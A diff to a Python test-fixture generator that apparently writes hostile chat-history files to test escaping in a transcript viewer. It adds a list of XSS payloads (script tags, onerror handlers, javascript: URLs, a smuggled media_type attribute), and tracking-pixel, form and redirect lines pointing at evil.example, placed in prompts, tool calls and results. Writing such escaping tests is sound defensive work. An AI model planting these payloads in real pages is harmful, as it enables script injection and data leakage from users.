@@ -19,6 +19,7 @@ root always gets the same bytes.
 from __future__ import annotations
 
 import base64
+import json
 import os
 import random
 import string
@@ -157,7 +158,10 @@ class _Writer:
 
 
 def _dumps(record: dict[str, Any]) -> bytes:
-    return orjson.dumps(record)
+    try:
+        return orjson.dumps(record)
+    except TypeError:  # deeper than orjson writes: the standard library goes further
+        return json.dumps(record, ensure_ascii=False, separators=(",", ":")).encode()
 
 
 # --- the line cases ----------------------------------------------------------------
@@ -383,6 +387,67 @@ def _empty_file(w: _Writer) -> None:
     neighbour.write()
 
 
+# Markup and links that must come out as text: each would run, style, redirect or
+# load something if it reached a page unescaped.
+MARKUP_PAYLOADS = (
+    "<script>alert('hostile-1')</script>",
+    "<img src=x onerror=alert('hostile-2')>",
+    "<style>body{display:none}</style>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<iframe src=\"javascript:alert('hostile-3')\"></iframe>",
+    "[click](javascript:alert('hostile-4'))",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<a href=\"javascript:alert('hostile-5')\">x</a>",
+    "![remote](https://evil.example/pixel.png?k=leak)",
+    "<b onmouseover=alert('hostile-6')>hover</b>",
+    "<svg onload=alert('hostile-7')>",
+    "<base href=\"https://evil.example/\">",
+    "<form action=\"https://evil.example/\"><input name=q></form>",
+)
+
+
+def _png() -> str:
+    from .examples import swatch_png
+
+    return base64.b64encode(swatch_png((200, 40, 40))).decode()
+
+
+def _markup(w: _Writer) -> None:
+    w.good()
+    for payload in MARKUP_PAYLOADS:
+        w.add(w.prompt(f"{w.marker()} {payload}"))
+        w.add(w.reply([{"type": "text", "text": f"{w.marker()}\n\n{payload}\n\n```\"><script>alert(8)</script>\n{payload}\n```"},
+                       {"type": "thinking", "thinking": payload}]))
+    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(9)'/>").decode()
+    images = [
+        {"type": "image", "source": {"type": "base64", "media_type": "image/png\" onerror=\"alert(13)", "data": _png()}},
+        {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": svg}},
+        {"type": "image", "source": {"type": "base64", "media_type": "text/html", "data": svg}},
+        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "not base64 <script>"}},
+    ]
+    w.add(w.prompt([{"type": "text", "text": w.marker()}] + images))
+    call = {"type": "tool_use", "id": "toolu_markup00001", "name": MARKUP_PAYLOADS[1],
+            "input": {MARKUP_PAYLOADS[0]: MARKUP_PAYLOADS[6], "command": MARKUP_PAYLOADS[3],
+                      "file_path": "/tmp/<img src=x onerror=alert(10)>.py"}}
+    w.add(w.reply([{"type": "text", "text": w.marker()}, call]))
+    w.add(w.result("toolu_markup00001", [{"type": "text", "text": f"{w.marker()} {MARKUP_PAYLOADS[2]}"}] + images,
+                   detail={"stdout": MARKUP_PAYLOADS[0], "file": {"filePath": MARKUP_PAYLOADS[1]}}))
+    for tool, args in (("Bash", {"command": MARKUP_PAYLOADS[0], "description": MARKUP_PAYLOADS[1]}),
+                       ("Edit", {"file_path": "/x/<b onclick=alert(11)>.html", "old_string": MARKUP_PAYLOADS[2],
+                                 "new_string": MARKUP_PAYLOADS[0]}),
+                       ("TodoWrite", {"todos": [{"content": MARKUP_PAYLOADS[1], "status": "<i>", "activeForm": "x"}]}),
+                       ("WebFetch", {"url": "javascript:alert(12)", "prompt": MARKUP_PAYLOADS[5]}),
+                       ("Task", {"description": MARKUP_PAYLOADS[1], "prompt": MARKUP_PAYLOADS[0], "subagent_type": "<x>"})):
+        call_id = f"toolu_markup_{tool}"
+        w.add(w.reply([{"type": "text", "text": w.marker()}, {"type": "tool_use", "id": call_id, "name": tool, "input": args}]))
+        w.add(w.result(call_id, MARKUP_PAYLOADS[0] + "\n" + MARKUP_PAYLOADS[3]))
+    w.add({"type": "custom-title", "customTitle": MARKUP_PAYLOADS[1]})
+    w.add(w.base("system", "sys1", subtype="informational", content=f"{w.marker()} {MARKUP_PAYLOADS[0]}"))
+    w.add(w.prompt(f"<command-name>{MARKUP_PAYLOADS[1]}</command-name><command-args>{MARKUP_PAYLOADS[0]}</command-args>"))
+    w.good()
+    w.write()
+
+
 # --- secrets -------------------------------------------------------------------------
 
 
@@ -517,12 +582,6 @@ def _fifo(path: Path) -> None:
     os.mkfifo(path)
 
 
-def _unreadable(path: Path) -> None:
-    path.write_bytes(b"")
-    case_writer = _Writer(HostileCase("unreadable", path.parent), path.stem, "/hostile/unreadable")
-    path.unlink()
-
-
 def _filesystem_cases(expected: HostileExpected) -> None:
     _fs_case(expected, "dir-named-jsonl", "x.jsonl", "a directory named *.jsonl", lambda p: p.mkdir())
     _fs_case(expected, "fifo", "pipe.jsonl", "not a regular file", _fifo)
@@ -600,6 +659,7 @@ _LINE_CASES = {
     "timestamps": _timestamps,
     "parent-cycles": _parent_cycles,
     "empty-file": _empty_file,
+    "markup": _markup,
 }
 
 
@@ -627,9 +687,9 @@ def write_hostile_history(root: Path, *, huge: bool = True, cases: Iterable[str]
     collision = _case(expected, "uuid-collision", "/hostile/uuid-collision")
     _uuid_collision(collision, collision.cwd)
     secrets = _Secrets(expected)
-    case = _case(expected, "secrets", "")
-    case.cwd = f"/srv/deploy/{secrets.github()}"
-    _secrets_case(case, case.cwd, secrets)
+    cwd = f"/srv/deploy/{secrets.github()}"  # the project directory's name holds it too
+    case = _case(expected, "secrets", cwd, folder=cwd.replace("/", "-"))
+    _secrets_case(case, cwd, secrets)
     _filesystem_cases(expected)
     _name_cases(expected)
     return expected
